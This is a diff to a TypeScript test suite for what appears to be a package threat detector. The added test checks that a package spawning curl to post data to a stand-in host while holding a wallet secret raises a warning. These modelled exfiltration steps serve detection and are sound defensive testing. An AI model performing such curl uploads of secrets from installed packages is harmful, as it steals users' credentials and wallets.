@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import type { Level } from '../../src/response/finding.ts';
-import { carrying, connect, type What, World, type WorldOptions, write } from './threats-builder.ts';
+import { carrying, connect, spawn, type What, World, type WorldOptions, write } from './threats-builder.ts';
 
 const STRANGER = 'tiny-wallet@1.0.1';
 const host = connect('collect.example.net:443');
@@ -56,6 +56,14 @@ describe('a secret in a request of a package', () => {
     world.does(STRANGER, carrying(host, 'wallet'));
     assert(!world.does(STRANGER, host).some(({ rule }) => rule.name === 'carried_secret'));
     assert(world.does(STRANGER, carrying(host, 'wallet')).some(({ rule }) => rule.name === 'carried_secret'));
+  });
+
+  it('is told of a program that sends something, and of no other', () => {
+    assert.deepEqual(
+      told(STRANGER, [carrying(spawn('curl', ['-d', 'x', 'https://a.example'], 'downloader'), 'wallet')]),
+      warn(),
+    );
+    assert.deepEqual(told(STRANGER, [carrying(spawn('jq', ['x']), 'wallet')]), []);
   });
 
   it('is laid at the door of whoever asked the client', () => {
